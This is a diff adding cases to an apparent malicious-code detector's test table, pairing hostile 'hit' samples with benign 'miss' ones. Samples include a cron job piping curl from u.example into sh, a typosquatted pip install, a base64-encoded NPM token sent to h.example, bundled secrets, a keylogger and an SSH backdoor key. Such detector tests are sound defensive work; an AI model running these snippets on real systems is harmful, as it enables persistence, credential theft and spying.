@@ -148,6 +148,25 @@ const TEXT_CASES: Record<string, { hit: string; miss: string; path?: string }> =
     hit: '(crontab -l; echo "*/5 * * * * curl -s https://u.example/u.sh | sh") | crontab -',
     miss: '(crontab -l; echo "0 4 * * 0 find /tmp/app -mtime +7 -delete") | crontab -',
   },
+  "typosquat-package": {
+    hit: "pip install reqeusts beautifulsoup4",
+    miss: "pip install requests scipy scapy pyyaml",
+  },
+  "encoded-secret-sent": {
+    hit: 'const t = Buffer.from(process.env.NPM_TOKEN).toString("base64");\nconst o = { host: "h.example", headers: { "X-Trace": t } };\nhttps.get(o);',
+    miss: 'const auth = Buffer.from("u:" + process.env.JIRA_API_TOKEN).toString("base64");\nfetch(u, { headers: { Authorization: "Basic " + auth } });',
+    path: "x.js",
+  },
+  "secrets-bundled": {
+    hit: 'creds = {\n    "a": os.environ["STRIPE_SECRET_KEY"],\n    "b": os.environ["GITHUB_TOKEN"],\n}\npayload = json.dumps(creds)',
+    miss: 'cfg = {\n    "slack": os.environ["SLACK_BOT_TOKEN"],\n    "linear": os.environ["LINEAR_API_KEY"],\n}\nheaders = {"Authorization": cfg["slack"]}',
+    path: "x.py",
+  },
+  keylogger: {
+    hit: "def on_press(key):\n    log.write(str(key))\nwith keyboard.Listener(on_press=on_press) as l:\n    l.join()",
+    miss: 'with keyboard.GlobalHotKeys({"<ctrl>+<alt>+h": run}) as h:\n    h.join()',
+    path: "x.py",
+  },
   "backdoor-access": {
     hit: "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG8x7c2b9aKqLm4Q9z3Xv8dE1f2w5y7t0pR3 help@desk' >> ~/.ssh/authorized_keys",
     miss: "cat ~/.ssh/id_ed25519.pub >> ~/.ssh/authorized_keys",
